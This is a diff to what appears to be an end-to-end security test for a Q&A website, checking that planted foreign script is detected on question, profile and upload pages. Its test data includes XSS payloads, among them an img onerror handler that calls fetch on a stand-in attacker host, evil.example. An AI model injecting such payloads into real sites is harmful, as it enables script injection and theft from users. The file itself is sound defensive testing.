@@ -92,10 +92,11 @@ journey('what runs on a page and isn’t the site’s is noticed, however it cam
     '<object data="data:text/html,<script>1</script>"></object>',
     '<img src=x onerror=fetch("https://evil.example")>',
   ]
+  // Addresses of their own, which no page is cached for.
   for (const [place, html] of planted.entries()) {
     planter.instead(html)
-    if ((await watch.visit(`/questions/${id}?again=${place}`)).length === 0) overlooked.push(html)
-    if ((await watch.visitAll([`/questions/${id}?once-more=${place}`])).length === 0)
+    if ((await watch.visit(`/questions/${id}?share=${place}`)).length === 0) overlooked.push(html)
+    if ((await watch.visitAll([`/questions/${id}?share=again-${place}`])).length === 0)
       overlooked.push(`in a frame: ${html}`)
     if ((await watch.show(html)).length === 0) overlooked.push(`by itself: ${html}`)
   }
@@ -126,7 +127,7 @@ journey.skipIf(attacks.length === 0)(
     }
     const onTheSite = async () => {
       for (const [place, attack] of attacks.entries()) {
-        expect(await planter.file(attack)).toMatch(/^(\S+\/uploads\/post\/[\w-]{22}\.png)?$/)
+        expect(await planter.file(attack)).toMatch(/^(\S+\/uploads\/post\/[\w-]{22}-\d+x\d+\.png)?$/)
         await planter.profileAndSite(attack)
         const pages = [
           `/users/${planter.mallory.username}`,
